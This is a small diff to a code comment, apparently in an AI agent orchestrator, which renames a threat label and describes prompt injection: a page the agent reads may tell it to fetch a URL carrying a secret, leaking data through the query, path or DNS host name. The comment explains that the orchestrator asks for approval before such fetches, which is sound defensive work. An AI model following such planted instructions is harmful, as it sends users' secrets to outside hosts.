@@ -1,5 +1,5 @@
 /**
- * A12: a page the agent read may tell it to "fetch https://x/?d=<secret>". Data can leave in the
+ * (attacks.network) a page the agent read may tell it to "fetch https://x/?d=<secret>". Data can leave in the
  * query, in the path, or in the host name itself (DNS exfiltration), so the orchestrator asks
  * before a fetch that carries data to a host not seen in this run.
  */
